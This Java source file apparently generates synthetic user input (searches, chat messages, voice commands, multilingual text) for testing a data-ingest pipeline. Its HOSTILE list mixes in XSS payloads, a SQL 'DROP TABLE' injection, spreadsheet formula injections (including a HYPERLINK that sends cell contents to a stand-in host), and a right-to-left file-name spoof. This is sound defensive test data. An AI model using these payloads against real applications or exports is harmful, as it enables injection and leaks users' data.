package io.tidemark.ingest.generate;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.apache.parquet.io.api.Binary;

/**
 * What users type and say: mostly harmless, some of it not in English, and a little of it hostile, so that whoever shows or
 * exports it is tried by the data itself.
 */
final class Phrases {
    private static final List<String> HOSTILE = List.of(
            "<img src=x onerror=alert(1)>",
            "<script>alert('tidemark')</script>",
            "=HYPERLINK(\"http://example.test/?x=\"&A1,\"click\")",
            "+1+1",
            "-2+3",
            "@SUM(A1:A9)",
            "\tleading tab, \"quoted\", comma",
            "first line\r\nsecond line",
            "'; DROP TABLE events; --",
            "right to left: \u202Eexe.tnemucod",
            "zero\u200Bwidth");

    private static final List<String> ELSEWHERE = List.of(
            "où est ma commande ?",
            "Größe ändern, bitte",
            "¿cuándo llega mi pedido?",
            "注文をキャンセルしたい",
            "我想退货",
            "где мой заказ?",
            "طلبي متأخر",
            "merci beaucoup 🙏",
            "👍",
            "naïve café ☕");

    private static final List<String> SEARCHES = List.of(
            "running shoes",
            "winter jacket",
            "return policy",
            "gift card",
            "store near me",
            "usb-c cable",
            "track order",
            "opening hours",
            "discount code",
            "wireless headphones",
            "student discount",
            "size guide",
            "warranty",
            "kids");

    private static final List<String> MESSAGES = List.of(
            "hello",
            "where is my order",
            "I want to return an item",
            "can I change my address",
            "thanks",
            "that did not help",
            "talk to a person",
            "my coupon does not work",
            "how do I reset my password",
            "ok",
            "yes please",
            "no",
            "great",
            "the app crashes when I pay",
            "is this in stock",
            "when will it arrive",
            "cancel my subscription",
            "invoice please");

    private static final List<String> UTTERANCES = List.of(
            "what's the weather",
            "play some music",
            "set a timer for ten minutes",
            "turn off the lights",
            "add milk to my list",
            "read my messages",
            "what's on my calendar",
            "call home",
            "stop",
            "next",
            "volume up",
            "tell me the news");

    private static final List<String> TASKS = List.of(
            "summarise the open tickets",
            "book the cheapest flight",
            "compare these two plans",
            "draft a reply",
            "fill in the form",
            "find the latest invoice",
            "check stock in all stores",
            "translate to German");

    private Phrases() {}

    static Choice<Binary> searches() {
        return mixed(SEARCHES);
    }

    static Choice<Binary> messages() {
        return mixed(MESSAGES);
    }

    static Choice<Binary> utterances() {
        return mixed(UTTERANCES);
    }

    static Choice<Binary> tasks() {
        return mixed(TASKS);
    }

    /** Nine in ten of these, one in eleven from elsewhere, and a little hostile. */
    private static Choice<Binary> mixed(List<String> usual) {
        Choice.Builder<Binary> choice = Choice.of(0, utf8(""));
        List<String> popularFirst = new ArrayList<>(usual);
        for (int i = 0; i < popularFirst.size(); i++) {
            choice.or(90.0 / (i + 2), utf8(popularFirst.get(i)));
        }
        double share = 90.0 / 4;
        ELSEWHERE.forEach(text -> choice.or(share / ELSEWHERE.size(), utf8(text)));
        HOSTILE.forEach(text -> choice.or(share / 8 / HOSTILE.size(), utf8(text)));
        return choice.build();
    }

    static Binary utf8(String text) {
        return Binary.fromConstantByteArray(text.getBytes(StandardCharsets.UTF_8));
    }
}
